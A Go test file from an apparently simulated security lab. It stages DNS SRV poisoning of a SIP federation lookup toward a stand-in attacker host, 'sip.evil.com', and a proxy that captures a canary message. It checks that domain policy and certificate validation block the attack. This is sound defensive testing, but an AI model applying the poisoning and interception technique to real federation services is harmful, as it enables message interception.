package attacker_test

import (
	"crypto/tls"
	"net/netip"
	"slices"
	"testing"
	"testing/synctest"

	"github.com/tlslab/tlslab/actors/attacker"
	"github.com/tlslab/tlslab/actors/dns"
	"github.com/tlslab/tlslab/actors/pki"
	"github.com/tlslab/tlslab/actors/sip"
	"github.com/tlslab/tlslab/netsim"
)

// TestSRVPoisoning forges the answer to contoso's Edge asking where
// fabrikam's federation server is (_sipfederationtls._tcp.fabrikam.com),
// from a hook on the Internet segment, pointing it at the attacker's host
// evil. Fe01 hands the Edge a message from alice to carol@fabrikam.com.
// The Edge refuses a target outside fabrikam.com by policy, and a target
// inside it (sip2.fabrikam.com) fails certificate validation; only with the
// domain check off and a publicly trusted certificate for the attacker's
// own name does the Edge federate to the attacker, who reads the message.
func TestSRVPoisoning(t *testing.T) {
	for _, r := range []struct {
		name, target string
		allowOutside bool
		publicCert   bool   // the attacker's certificate comes from the public CA the Edge trusts
		reject       string // the Edge's exact Rejection reason; "" when it federates
	}{
		{name: "target outside the partner domain", target: "sip.evil.com",
			reject: "edge01: SRV target sip.evil.com of _sipfederationtls._tcp.fabrikam.com is outside the partner domain fabrikam.com"},
		{name: "target inside the partner domain", target: "sip2.fabrikam.com",
			reject: "edge01: tls: failed to verify certificate: x509: certificate signed by unknown authority"},
		{name: "domain check off, public certificate", target: "sip.evil.com", allowOutside: true, publicCert: true},
	} {
		t.Run(r.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				w := netsim.NewWorld(netsim.Config{Seed: 13})
				t.Cleanup(func() { w.Close() })
				lan := w.NewSegment("contoso-lan", netsim.SegmentConfig{})
				inet := w.NewSegment("internet", netsim.SegmentConfig{})
				fe01, _ := addHost(t, w, lan, "fe01", netsim.HostConfig{}, fe01IP)
				edgeH, _ := addHost(t, w, lan, "edge", netsim.HostConfig{}, netip.MustParseAddr("10.0.0.5"))
				if _, err := edgeH.AddNIC(inet, netsim.NICConfig{Addr: netip.MustParsePrefix("203.0.113.10/24")}); err != nil {
					t.Fatal(err)
				}
				publicDNS, _ := addHost(t, w, inet, "public-dns", netsim.HostConfig{}, netip.MustParseAddr("203.0.113.53"))
				evilIP := netip.MustParseAddr("203.0.113.66")
				evil, _ := addHost(t, w, inet, "evil", netsim.HostConfig{}, evilIP)

				contoso, err := pki.NewRootCA(pki.RootConfig{CommonName: "Contoso Root CA", Clock: w.Now})
				if err != nil {
					t.Fatal(err)
				}
				fabrikam, err := pki.NewRootCA(pki.RootConfig{CommonName: "Fabrikam Root CA", Clock: w.Now})
				if err != nil {
					t.Fatal(err)
				}
				public, err := pki.NewRootCA(pki.RootConfig{CommonName: "Public Root CA", Clock: w.Now})
				if err != nil {
					t.Fatal(err)
				}
				cred := func(ca *pki.CA, names ...string) pki.Credential {
					c, err := ca.Issue(pki.CertRequest{DNSNames: names, Purpose: pki.PurposeServerClient})
					if err != nil {
						t.Fatal(err)
					}
					return c
				}
				mtls := func(c pki.Credential, roots ...*pki.CA) *tls.Config {
					pool := roots[0].Pool()
					for _, ca := range roots[1:] {
						pool.AddCert(ca.Certificate())
					}
					return &tls.Config{Certificates: []tls.Certificate{c.TLS}, RootCAs: pool, ClientCAs: pool, ClientAuth: tls.RequireAndVerifyClientCert, Time: w.Now}
				}

				zone, err := dns.NewZone("fabrikam.com",
					dns.SRV("_sipfederationtls._tcp.fabrikam.com", 0, 0, 5061, "sip.fabrikam.com"),
					dns.A("sip.fabrikam.com", netip.MustParseAddr("203.0.113.20")),
				)
				if err != nil {
					t.Fatal(err)
				}
				srv, err := dns.NewServer(dns.ServerConfig{Zones: []*dns.Zone{zone}})
				if err != nil {
					t.Fatal(err)
				}
				serveDNS(t, publicDNS, srv.Serve)
				res, err := dns.NewResolver(dns.ResolverConfig{Net: edgeH, Servers: []netip.AddrPort{netip.MustParseAddrPort("203.0.113.53:53")}})
				if err != nil {
					t.Fatal(err)
				}
				edge, err := sip.NewEdge(sip.EdgeConfig{
					FQDN: "edge01.contoso.com", ExternalFQDN: "sip.contoso.com", Domain: "contoso.com", Net: edgeH,
					InternalAddr: "10.0.0.5:5062", InternalTLS: mtls(cred(contoso, "edge01.contoso.com"), contoso),
					ExternalTLS: mtls(cred(contoso, "sip.contoso.com"), fabrikam, public),
					Resolver:    res, Registrar: sip.NewRegistrar(map[string]string{"alice@contoso.com": "fe01.contoso.com"}),
					FrontEnds:      map[string]string{"fe01.contoso.com": fe01IP.String() + ":5062"},
					TrustedServers: []string{"fe01.contoso.com", "edge01.contoso.com"}, Partners: []string{"fabrikam.com"},
					AllowSRVTargetOutsideDomain: r.allowOutside, Timeout: testTimeout, Now: w.Now,
				})
				if err != nil {
					t.Fatal(err)
				}
				if err := edge.Start(t.Context()); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { edge.Close() })

				// The attacker: a spoofer on the Internet path and a fake
				// federation server on evil.
				sp, err := attacker.NewDNSSpoofer(attacker.DNSSpoofConfig{Forgery: attacker.DNSForgery{
					Names: []string{"_sipfederationtls._tcp.fabrikam.com", r.target}, SRVTarget: r.target, A: evilIP,
				}})
				if err != nil {
					t.Fatal(err)
				}
				defer sp.AttachSegment(inet)()
				certs := attacker.ForgedByCA(mustCA(t, "Mallory Root CA", w), r.target)
				if r.publicCert {
					certs = attacker.OwnCertificate(cred(public, r.target))
				}
				p, err := attacker.NewProxy(attacker.ProxyConfig{Host: evil, Port: 5061, SIP: true, Victim: attacker.VictimTLS{Certs: certs}, Upstream: attacker.SIPResponder{}})
				if err != nil {
					t.Fatal(err)
				}
				if err := p.Start(t.Context()); err != nil {
					t.Fatal(err)
				}
				defer p.Close()

				// Fe01 relays alice's message to the Edge.
				const canary = "canary-for-carol"
				fwd, err := attacker.ImpersonateMTLS(t.Context(), attacker.MTLSImpersonation{
					Dial: fe01, Addr: "10.0.0.5:5062", ServerName: "edge01.contoso.com", RootCAs: contoso.Pool(),
					Certificate: ptr(cred(contoso, "fe01.contoso.com").TLS), Now: w.Now, Timeout: testTimeout,
					Message: attacker.ForgedMessage{From: "alice@contoso.com", To: "carol@fabrikam.com", Body: canary, ViaHost: "fe01.contoso.com"},
				})
				if err != nil || !fwd.Answered {
					t.Fatalf("fe01 -> edge: %+v, %v", fwd, err)
				}
				synctest.Wait()
				var reasons []string
				for _, rj := range edge.Rejections() {
					reasons = append(reasons, rj.Reason)
				}
				rep := p.Report([]string{canary})
				if r.reject != "" {
					if !slices.Equal(reasons, []string{r.reject}) || fwd.Warning != r.reject {
						t.Errorf("edge rejections %q (answer %d %q), want %q", reasons, fwd.Status, fwd.Warning, r.reject)
					}
					if len(rep.Found) != 0 {
						t.Errorf("attacker found %v", rep.Found)
					}
					return
				}
				if len(reasons) != 0 || fwd.Status != 200 {
					t.Errorf("edge rejections %q, answer %d; want the message federated", reasons, fwd.Status)
				}
				if !slices.Equal(rep.Found, []string{canary}) || !rep.Sessions[0].VictimSide.Completed {
					t.Errorf("attacker report %+v, want the canary", rep)
				}
				if rl := edge.Relays(); len(rl) != 1 || rl[0].NextHop != r.target || rl[0].NextHopAddr != evilIP.String()+":5061" {
					t.Errorf("edge relays %+v, want one to the attacker", rl)
				}
				if q := sp.Questions(); !slices.ContainsFunc(q, func(q attacker.DNSQuestion) bool { return q.Forged && q.Type == "SRV" }) {
					t.Errorf("spoofer questions %+v", q)
				}
			})
		})
	}
}

func mustCA(t *testing.T, name string, w *netsim.World) *pki.CA {
	t.Helper()
	ca, err := pki.NewRootCA(pki.RootConfig{CommonName: name, Clock: w.Now})
	if err != nil {
		t.Fatal(err)
	}
	return ca
}

func ptr[T any](v T) *T { return &v }
